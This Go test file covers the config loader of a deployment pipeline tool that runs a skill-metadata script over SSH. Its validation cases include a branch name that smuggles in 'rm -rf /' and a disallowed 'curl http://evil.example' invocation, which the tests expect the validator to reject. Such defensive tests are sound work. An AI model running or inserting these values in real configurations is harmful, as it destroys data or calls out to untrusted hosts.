package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func writeConfig(t *testing.T, content string) string {
	t.Helper()
	dir := t.TempDir()
	path := filepath.Join(dir, "skillsync.yaml")
	if err := os.WriteFile(path, []byte(content), 0640); err != nil {
		t.Fatalf("failed to write config: %v", err)
	}
	return path
}

func TestLoad_ValidConfig(t *testing.T) {
	path := writeConfig(t, `
pipelines:
  skill-metadata:
    trigger_branch: "19.02"
    working_dir: /opt/selene/selene-backend/batch/
    invocation: pipenv run python script/load_skill_data.py
    targets:
      - name: test
        host: test.mycroft.ai
        user: mycroft
      - name: production
        host: 165.22.40.13
        user: mycroft
`)

	pipelines, err := Load(path)
	if err != nil {
		t.Fatalf("Load() error = %v", err)
	}

	p, ok := pipelines["skill-metadata"]
	if !ok {
		t.Fatal("expected pipeline 'skill-metadata' to be loaded")
	}

	if p.TriggerBranch != "19.02" {
		t.Errorf("TriggerBranch = %q, want %q", p.TriggerBranch, "19.02")
	}

	// Core version defaults to the trigger branch
	if p.CoreVersion != "19.02" {
		t.Errorf("CoreVersion = %q, want %q", p.CoreVersion, "19.02")
	}

	if len(p.Invocation) == 0 || p.Invocation[0] != "pipenv" {
		t.Errorf("Invocation = %v, want to start with pipenv", p.Invocation)
	}

	// Target order must match configuration order
	if len(p.Targets) != 2 {
		t.Fatalf("expected 2 targets, got %d", len(p.Targets))
	}
	if p.Targets[0].Name != "test" || p.Targets[1].Name != "production" {
		t.Errorf("target order = [%s, %s], want [test, production]",
			p.Targets[0].Name, p.Targets[1].Name)
	}

	// Defaults
	if p.Targets[0].Port != DefaultSSHPort {
		t.Errorf("default port = %d, want %d", p.Targets[0].Port, DefaultSSHPort)
	}
	if p.ConnectTimeout != DefaultConnectTimeout {
		t.Errorf("default connect timeout = %d, want %d", p.ConnectTimeout, DefaultConnectTimeout)
	}
	if p.CommandTimeout != 0 {
		t.Errorf("default command timeout = %d, want 0 (none)", p.CommandTimeout)
	}

	if got := p.Targets[1].String(); got != "mycroft@165.22.40.13" {
		t.Errorf("target String() = %q, want %q", got, "mycroft@165.22.40.13")
	}
	if got := p.Targets[0].Addr(); got != "test.mycroft.ai:22" {
		t.Errorf("target Addr() = %q, want %q", got, "test.mycroft.ai:22")
	}
}

func TestLoad_DefaultInvocation(t *testing.T) {
	path := writeConfig(t, `
pipelines:
  skill-metadata:
    trigger_branch: "19.08"
    working_dir: /opt/selene/selene-backend/batch/
    targets:
      - host: 165.22.40.13
        user: mycroft
`)

	pipelines, err := Load(path)
	if err != nil {
		t.Fatalf("Load() error = %v", err)
	}

	p := pipelines["skill-metadata"]
	want := []string{"pipenv", "run", "python", "script/load_skill_data.py"}
	if len(p.Invocation) != len(want) {
		t.Fatalf("Invocation = %v, want %v", p.Invocation, want)
	}
	for i := range want {
		if p.Invocation[i] != want[i] {
			t.Errorf("Invocation[%d] = %q, want %q", i, p.Invocation[i], want[i])
		}
	}

	// A target without a name is labelled by its host
	if p.Targets[0].Name != "165.22.40.13" {
		t.Errorf("target name = %q, want host fallback", p.Targets[0].Name)
	}
}

func TestLoad_EmptyFile(t *testing.T) {
	path := writeConfig(t, "")

	pipelines, err := Load(path)
	if err != nil {
		t.Fatalf("Load() error = %v", err)
	}
	if len(pipelines) != 0 {
		t.Errorf("expected no pipelines, got %d", len(pipelines))
	}
}

func TestLoad_MissingFile(t *testing.T) {
	_, err := Load(filepath.Join(t.TempDir(), "nope.yaml"))
	if err == nil {
		t.Error("expected error for missing config file")
	}
}

func TestLoad_InvalidConfigs(t *testing.T) {
	tests := []struct {
		name    string
		yaml    string
		wantMsg string
	}{
		{
			name: "missing trigger branch",
			yaml: `
pipelines:
  skill-metadata:
    working_dir: /opt/selene/selene-backend/batch/
    targets:
      - host: 165.22.40.13
        user: mycroft
`,
			wantMsg: "trigger_branch",
		},
		{
			name: "injection in branch",
			yaml: `
pipelines:
  skill-metadata:
    trigger_branch: "19.02;rm -rf /"
    working_dir: /opt/selene/selene-backend/batch/
    targets:
      - host: 165.22.40.13
        user: mycroft
`,
			wantMsg: "trigger_branch",
		},
		{
			name: "relative working dir",
			yaml: `
pipelines:
  skill-metadata:
    trigger_branch: "19.02"
    working_dir: selene/batch
    targets:
      - host: 165.22.40.13
        user: mycroft
`,
			wantMsg: "working_dir",
		},
		{
			name: "no targets",
			yaml: `
pipelines:
  skill-metadata:
    trigger_branch: "19.02"
    working_dir: /opt/selene/selene-backend/batch/
`,
			wantMsg: "at least one target",
		},
		{
			name: "disallowed invocation",
			yaml: `
pipelines:
  skill-metadata:
    trigger_branch: "19.02"
    working_dir: /opt/selene/selene-backend/batch/
    invocation: curl http://evil.example
    targets:
      - host: 165.22.40.13
        user: mycroft
`,
			wantMsg: "invocation",
		},
		{
			name: "placeholder secret",
			yaml: `
pipelines:
  skill-metadata:
    trigger_branch: "19.02"
    working_dir: /opt/selene/selene-backend/batch/
    secret: replace-with-secret
    targets:
      - host: 165.22.40.13
        user: mycroft
`,
			wantMsg: "secret",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path := writeConfig(t, tt.yaml)
			_, err := Load(path)
			if err == nil {
				t.Fatal("expected validation error, got nil")
			}
			if !strings.Contains(err.Error(), tt.wantMsg) {
				t.Errorf("error %q does not mention %q", err.Error(), tt.wantMsg)
			}
		})
	}
}

func TestPipeline_Matches(t *testing.T) {
	p := &Pipeline{TriggerBranch: "19.02"}

	tests := []struct {
		branch   string
		expected bool
	}{
		{"19.02", true},
		{"19.08", false},
		{"feature-x", false},
		{"", false},
		{"19.02 ", false}, // exact equality, no trimming
	}

	for _, tt := range tests {
		if got := p.Matches(tt.branch); got != tt.expected {
			t.Errorf("Matches(%q) = %v, want %v", tt.branch, got, tt.expected)
		}
	}
}

func TestPipeline_MatchesRef(t *testing.T) {
	p := &Pipeline{TriggerBranch: "19.02"}

	tests := []struct {
		ref      string
		expected bool
	}{
		{"refs/heads/19.02", true},
		{"refs/heads/19.08", false},
		{"refs/tags/19.02", false},
		{"19.02", false},
	}

	for _, tt := range tests {
		if got := p.MatchesRef(tt.ref); got != tt.expected {
			t.Errorf("MatchesRef(%q) = %v, want %v", tt.ref, got, tt.expected)
		}
	}
}

func TestRegistry(t *testing.T) {
	pipelines := map[string]*Pipeline{
		"skill-metadata": {Name: "skill-metadata", TriggerBranch: "19.02"},
	}
	registry := NewRegistry(pipelines)

	if registry.Count() != 1 {
		t.Errorf("Count() = %d, want 1", registry.Count())
	}

	p, err := registry.Get("skill-metadata")
	if err != nil {
		t.Fatalf("Get() error = %v", err)
	}
	if p.TriggerBranch != "19.02" {
		t.Errorf("TriggerBranch = %q, want 19.02", p.TriggerBranch)
	}

	if _, err := registry.Get("unknown"); err == nil {
		t.Error("expected error for unknown pipeline")
	}
}
